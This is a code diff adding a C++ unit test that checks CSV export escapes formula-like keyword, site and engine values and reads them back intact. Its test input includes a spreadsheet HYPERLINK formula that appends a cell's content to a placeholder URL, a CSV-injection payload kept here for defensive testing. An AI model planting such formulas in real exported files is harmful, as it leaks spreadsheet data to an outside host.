@@ -115,5 +115,20 @@ TEST(PositionHistoryPage, LinesFollowTheRunsWithGapsWhereNotFound) {
     EXPECT_NE(page.find("alpha.test on Google</li>"), std::string::npos);
 }
 
+// A keyword or a site that a spreadsheet would run as a formula goes into the table as text and
+// reads back as it was written.
+TEST(PositionHistoryPage, FormulaLikeTextsAreKeptAsText) {
+    const std::vector<PositionHistoryRow> rows = {
+        {"2026-01-01T10:00:00", "=HYPERLINK(\"http://x/?\"&A1)", "@site", "-Engine", 2}};
+    const std::string table = PositionHistoryRecords(rows);
+    EXPECT_EQ(table,
+              "2026-01-01T10:00:00,\"'=HYPERLINK(\"\"http://x/?\"\"&A1)\",'@site,'-Engine,2\r\n");
+    const std::vector<PositionHistoryRow> back = ParsePositionHistory(table);
+    ASSERT_EQ(back.size(), 1u);
+    EXPECT_EQ(back[0].keyword, rows[0].keyword);
+    EXPECT_EQ(back[0].site, rows[0].site);
+    EXPECT_EQ(back[0].engine, rows[0].engine);
+}
+
 }  // namespace
 }  // namespace sg
